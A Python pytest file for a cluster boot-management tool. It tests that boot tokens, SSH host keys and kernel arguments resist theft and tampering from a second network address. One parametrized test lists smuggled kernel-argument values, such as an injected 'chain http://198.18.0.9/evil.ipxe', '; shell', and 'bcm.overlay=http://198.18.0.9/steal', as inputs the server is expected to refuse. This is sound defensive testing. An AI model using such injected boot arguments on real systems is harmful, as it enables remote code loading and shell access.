"""Boot trust (#26 items 2-4) through the HTTP interface, on SQLite and PostgreSQL: each attack of the issue
run as described, from a second client address (TestClient's ``client=``), and refused.

- a MAC is not enough: one token per attempt, bound to the first address that fetched the script; another
  address gets no token and does not kill the node's; overlay and hello only from the bound address; the
  overlay with bcm's host key once; the node's address of record is the socket's, not a header;
- boot-token guesses are braked (429) while a valid token is never braked;
- ``host_key_source node``: no private key in the overlay, the key presented at hello is pinned;
- pins do not change silently: a pre-registered key is kept at provision; ``--rekey`` (admin) regenerates
  it with a ``node.rekey`` event naming both fingerprints;
- kernel_args are kernel parameters only, bcm's own come last.
"""

from __future__ import annotations

import io
import tarfile
from typing import Any

import asyncssh
import pytest
from fastapi.testclient import TestClient
from pydantic import ValidationError
from sqlmodel import Session, select

from bcm.domain.hostkey import fingerprint
from bcm.lab.chassis import Machine
from bcm.lab.net import keep_lab_space_local
from bcm.models.node import Interface, Node
from tests.api.test_pxe_api import (
    MAC,
    add_with_bmc,
    events,
    node,
    provision_op,
    publish_image,
    token_of,
    wait_state,
)

NODE_IP, OTHER_IP = "198.18.0.50", "198.18.0.66"


@pytest.fixture(autouse=True)
def fresh_event_throttle(monkeypatch: pytest.MonkeyPatch) -> None:
    """A started server has counted no refusals yet (the throttle lives in the process all tests share)."""
    from bcm.services import events as events_svc

    monkeypatch.setattr(events_svc, "_throttle", events_svc._Throttle())


@pytest.fixture(autouse=True)
def lab_space_stays_local() -> None:
    """The server inventories a booted node at its (198.18) address: such a connection must fail on this
    machine, never leave it (bcm lab's own rule; needs root)."""
    try:
        keep_lab_space_local()
    except Exception as exc:  # not root: the addresses would be routed out
        pytest.skip(f"needs the unreachable route for 198.18.0.0/15 (root): {exc}")


def at(api: TestClient, address: str) -> TestClient:
    """A client of the same running server from ``address`` (the socket's peer address)."""
    return TestClient(api.app, client=(address, 40000))


def fetch(c: TestClient, mac: str = MAC) -> tuple[str, str]:
    r = c.get(f"/boot/v1/ipxe/{mac}")
    assert r.status_code == 200, r.text
    return r.headers["x-bcm-purpose"], r.text


def overlay(c: TestClient, token: str, mac: str = MAC) -> Any:
    return c.get(f"/boot/v1/overlay/{mac}", headers={"Authorization": f"Bearer {token}"})


def hello(c: TestClient, token: str, mac: str = MAC, **body: Any) -> Any:
    return c.post("/boot/v1/hello", json={"mac": mac, **body}, headers={"Authorization": f"Bearer {token}"})


def tar_names(data: bytes) -> set[str]:
    with tarfile.open(fileobj=io.BytesIO(data), mode="r:gz") as t:
        return set(t.getnames())


def provisioning(
    api: TestClient,
    engine: Any,
    settings: Any,
    bmcs: dict[str, Any],
    name: str = "gpu01",
    mac: str = MAC,
    **extra: Any,
) -> None:
    add_with_bmc(api, name, mac, bmcs["ipmi"], image="img", **extra)
    r = api.post("/api/v1/nodes/actions/provision", json={"nodes": name})
    assert r.status_code == 200, r.text
    assert provision_op(api, name)["results"][name]["status"] == "ok"


def pinned(engine: Any, name: str) -> str | None:
    with Session(engine) as s:
        return s.exec(select(Node).where(Node.name == name)).one().ssh_host_key


def test_a_mac_is_not_enough_to_take_a_provisioning_nodes_secrets(
    api: TestClient, engine: Any, settings: Any, bmcs: dict[str, Any]
) -> None:
    publish_image(engine, settings)
    provisioning(api, engine, settings, bmcs)
    real, thief = at(api, NODE_IP), at(api, OTHER_IP)

    purpose, text = fetch(real)
    assert purpose == "image"
    token = token_of(text)
    # the thief knows the MAC: no token, and the node's stays good
    purpose, stolen = fetch(thief)
    assert purpose == "refused" and "bcm.token" not in stolen and token not in stolen
    assert fetch(real)[1] == text  # a reboot of the node: the same token
    refused = [e for e in events(engine, "boot.script") if "refused" in e.message]
    assert [(e.target, e.detail) for e in refused] == [("gpu01", {"source": OTHER_IP})], refused
    assert f"bound to {NODE_IP}" in refused[0].message and token not in refused[0].message

    # the thief holding the token (read off the wire) gets neither the overlay nor the agent token
    assert overlay(thief, token).status_code == 403
    assert hello(thief, token).status_code == 403
    assert node(api, "gpu01")["provision_state"] == "provisioning"

    r = overlay(real, token)
    assert r.status_code == 200 and "etc/ssh/ssh_host_ed25519_key" in tar_names(r.content)
    again = overlay(real, token)  # the private key goes out once per attempt
    assert again.status_code == 403 and "sent already" in again.json()["message"]

    # hello from the node, with a forged forwarded-for header: the address of record is the socket's
    r = real.post(
        "/boot/v1/hello",
        json={"mac": MAC},
        headers={"Authorization": f"Bearer {token}", "X-Forwarded-For": OTHER_IP, "X-Real-IP": OTHER_IP},
    )
    assert r.status_code == 200, r.text
    with Session(engine) as s:
        assert s.exec(select(Interface.ip).where(Interface.mac == MAC)).one() == NODE_IP
    booted = [e.message for e in events(engine, "node.booted")]
    assert booted == [f"called back from {NODE_IP} ({MAC})"]
    for e in events(engine, "boot.token") + events(engine, "boot.script") + events(engine, "boot.overlay"):
        assert token not in e.message and token not in str(e.detail)


def test_a_thief_first_binds_the_attempt_and_the_node_is_refused_loudly(
    api: TestClient, engine: Any, settings: Any, bmcs: dict[str, Any]
) -> None:
    """Without bcm's DHCP the first fetch wins: the real node then gets no token, and the refusal names
    the address that took the attempt (the remaining risk the README states)."""
    publish_image(engine, settings)
    provisioning(api, engine, settings, bmcs)
    thief, real = at(api, OTHER_IP), at(api, NODE_IP)
    stolen = token_of(fetch(thief)[1])
    assert fetch(real)[0] == "refused"
    assert any(
        f"refused to {NODE_IP}: this boot is bound to {OTHER_IP}" in e.message
        for e in events(engine, "boot.script")
    )
    # the attempt fails at its deadline (the clock passes it here), and a new attempt starts a new token
    from bcm.models.base import utcnow

    with Session(engine) as s:
        n = s.exec(select(Node).where(Node.name == "gpu01")).one()
        n.provision_deadline = utcnow()
        s.add(n)
        s.commit()
    wait_state(api, "gpu01", "failed", timeout_s=30)
    assert api.post("/api/v1/nodes/actions/provision", json={"nodes": "gpu01"}).status_code == 200
    purpose, text = fetch(real)
    assert purpose == "image" and token_of(text) != stolen
    assert fetch(thief)[0] == "refused"
    assert hello(thief, stolen).status_code == 401


def test_boot_token_guesses_are_braked_and_a_valid_token_is_not(
    api: TestClient, engine: Any, settings: Any, bmcs: dict[str, Any]
) -> None:
    publish_image(engine, settings)
    provisioning(api, engine, settings, bmcs)
    real = at(api, NODE_IP)
    token = token_of(fetch(real)[1])
    limit = settings.http.auth_failures_per_minute
    codes = [hello(real, "bcmboot_" + f"{i:043d}").status_code for i in range(limit + 2)]
    assert codes[:limit] == [401] * limit and codes[-1] == 429, codes
    assert overlay(real, "bcmboot_guess").status_code == 429
    # the node's own token from the braked address still works: it is checked before any brake
    assert overlay(real, token).status_code == 200
    assert hello(real, token).status_code == 200
    # the refusals were recorded once for that client, the rest summed, never one event per guess
    assert len(events(engine, "boot.token")) == 1


def test_a_node_made_host_key_is_pinned_at_hello(
    api: TestClient, engine: Any, settings: Any, bmcs: dict[str, Any]
) -> None:
    bad = api.post("/api/v1/categories", json={"name": "untrusted", "host_key_source": "nodes"})
    assert bad.status_code == 422 and bad.json()["field"] == "host_key_source"
    # what bcm trusts at boot is an admin's choice: an operator may neither create nor switch it
    op = {
        "Authorization": "Bearer "
        + api.post("/api/v1/tokens", json={"name": "op", "role": "operator"}).json()["token"]
    }
    r = api.post("/api/v1/categories", json={"name": "untrusted", "host_key_source": "node"}, headers=op)
    assert r.status_code == 403 and r.json()["field"] == "host_key_source"
    assert api.post("/api/v1/categories", json={"name": "plain"}, headers=op).status_code == 201
    r = api.patch("/api/v1/categories/plain", json={"host_key_source": "node"}, headers=op)
    assert r.status_code == 403 and api.get("/api/v1/categories/plain").json()["host_key_source"] is None
    r = api.post("/api/v1/categories", json={"name": "untrusted", "host_key_source": "node"})
    assert r.status_code == 201 and r.json()["host_key_source"] == "node", r.text
    publish_image(engine, settings)
    provisioning(api, engine, settings, bmcs, category="untrusted")
    assert pinned(engine, "gpu01") is None  # bcm made no key
    real = at(api, NODE_IP)
    token = token_of(fetch(real)[1])
    r = overlay(real, token)
    assert r.status_code == 200
    assert not any(n.startswith("etc/ssh/ssh_host") for n in tar_names(r.content))  # no private key travels
    assert overlay(real, token).status_code == 200  # nothing secret in it: the bound address may fetch again
    assert overlay(at(api, OTHER_IP), token).status_code == 403

    key = asyncssh.generate_private_key("ssh-ed25519").export_public_key("openssh").decode().strip()
    missing = hello(real, token)
    assert missing.status_code == 422 and missing.json()["field"] == "host_key"
    assert hello(real, token, host_key="ssh-ed25519 AAAAnot-a-key").status_code == 422
    r = hello(real, token, host_key=key)  # the token survived the refusals above
    assert r.status_code == 200, r.text
    assert pinned(engine, "gpu01") == " ".join(key.split()[:2])
    rekeys = [e.message for e in events(engine, "node.rekey")]
    assert rekeys == [f"host key none -> {fingerprint(key)}: made by the node at boot (host_key_source node)"]


def test_a_pre_registered_key_is_kept_and_only_an_admins_rekey_replaces_it(
    api: TestClient, engine: Any, settings: Any, bmcs: dict[str, Any]
) -> None:
    publish_image(engine, settings)
    k1 = asyncssh.generate_private_key("ssh-ed25519").export_public_key("openssh").decode().strip()
    k2 = asyncssh.generate_private_key("ssh-ed25519").export_public_key("openssh").decode().strip()
    provisioning(api, engine, settings, bmcs, ssh_host_key=k1)
    assert pinned(engine, "gpu01") == k1  # the queue started it and kept the admin's key
    assert events(engine, "node.rekey") == []
    real = at(api, NODE_IP)
    r = overlay(real, token_of(fetch(real)[1]))
    assert r.status_code == 200 and "etc/ssh/ssh_host_ed25519_key" not in tar_names(r.content)

    # gpu02, registered with its own key: an operator may not ask for new keys; an admin may
    add_with_bmc(api, "gpu02", "52:54:00:aa:00:02", bmcs["redfish"], image="img", ssh_host_key=k2)
    op = api.post("/api/v1/tokens", json={"name": "op", "role": "operator"}).json()["token"]
    body = {"nodes": "gpu02", "rekey": True}
    assert (
        api.post(
            "/api/v1/nodes/actions/provision", json=body, headers={"Authorization": f"Bearer {op}"}
        ).status_code
        == 403
    )
    wrong = api.post("/api/v1/nodes/actions/drain", json=body)
    assert wrong.status_code == 422 and wrong.json()["field"] == "rekey"
    assert pinned(engine, "gpu02") == k2 and node(api, "gpu02")["provision_state"] == "registered"
    r = api.post("/api/v1/nodes/actions/provision", json=body)
    assert r.status_code == 200, r.text
    new = pinned(engine, "gpu02")
    assert new and new != k2
    [event] = events(engine, "node.rekey")
    assert event.target == "gpu02" and event.actor.startswith("admin:")
    assert f"host key {fingerprint(k2)} -> {fingerprint(new)}" in event.message
    provision_op(api, "gpu02")
    assert Machine(bmcs["redfish"].dir).is_on()
    other = at(api, "198.18.0.51")
    r = overlay(other, token_of(fetch(other, "52:54:00:aa:00:02")[1]), "52:54:00:aa:00:02")
    assert r.status_code == 200
    with tarfile.open(fileobj=io.BytesIO(r.content), mode="r:gz") as t:
        sent = t.extractfile("etc/ssh/ssh_host_ed25519_key")
        assert sent is not None
        private = asyncssh.import_private_key(sent.read())
    assert private.export_public_key("openssh").decode().split()[:2] == new.split()


@pytest.mark.parametrize(
    "bad",
    [
        "quiet\nshell",
        "quiet\nchain http://198.18.0.9/evil.ipxe",
        "quiet ; shell",
        "quiet || shell",
        "bcm.overlay=http://198.18.0.9/steal",
        "bcm.token=x",
    ],
)
def test_kernel_args_that_add_commands_or_override_bcm_are_refused(api: TestClient, bad: str) -> None:
    r = api.post("/api/v1/nodes", json={"name": "gpu01", "mac": MAC, "kernel_args": bad})
    assert r.status_code == 422 and r.json()["field"] == "kernel_args", r.text
    assert api.get("/api/v1/nodes/gpu01").status_code == 404
    assert (
        api.post("/api/v1/nodes", json={"name": "gpu01", "mac": MAC, "kernel_args": "quiet"}).status_code
        == 201
    )
    r = api.patch("/api/v1/nodes/gpu01", json={"kernel_args": bad})
    assert r.status_code == 422 and r.json()["field"] == "kernel_args", r.text
    assert node(api, "gpu01")["kernel_args"] == "quiet"
    r = api.post("/api/v1/categories", json={"name": "dgx", "kernel_args": bad})
    assert r.status_code == 422 and r.json()["field"] == "kernel_args", r.text
    assert api.post("/api/v1/categories", json={"name": "dgx", "kernel_args": "iommu=pt"}).status_code == 201
    r = api.patch("/api/v1/categories/dgx", json={"kernel_args": bad})
    assert r.status_code == 422 and r.json()["field"] == "kernel_args", r.text
    assert api.get("/api/v1/categories/dgx").json()["kernel_args"] == "iommu=pt"


def test_bcms_parameters_come_last_and_pxe_kernel_args_are_checked(
    api: TestClient, engine: Any, settings: Any, bmcs: dict[str, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    from bcm.settings import Settings

    monkeypatch.setenv("BCM_PXE__KERNEL_ARGS", "console=ttyS0 bcm.overlay=http://198.18.0.9/x")
    with pytest.raises(ValidationError, match="pxe.kernel_args"):
        Settings()
    monkeypatch.setenv("BCM_PXE__KERNEL_ARGS", "console=ttyS0\nshell")
    with pytest.raises(ValidationError, match="one line"):
        Settings()

    publish_image(engine, settings)
    provisioning(api, engine, settings, bmcs, kernel_args="rd.driver.blacklist=nouveau quiet")
    text = fetch(at(api, NODE_IP))[1]
    [kernel] = [line for line in text.splitlines() if line.startswith("kernel ")]
    args = kernel.split(" || ")[0].split()[5:]  # after kernel --name vmlinuz URL initrd=initrd.img
    operator = [a for a in args if not a.startswith("bcm.")]
    assert operator == [*settings.pxe.kernel_args.split(), "rd.driver.blacklist=nouveau", "quiet"]
    assert args[: len(operator)] == operator and all(a.startswith("bcm.") for a in args[len(operator) :])
    assert args[-1].startswith("bcm.token=")
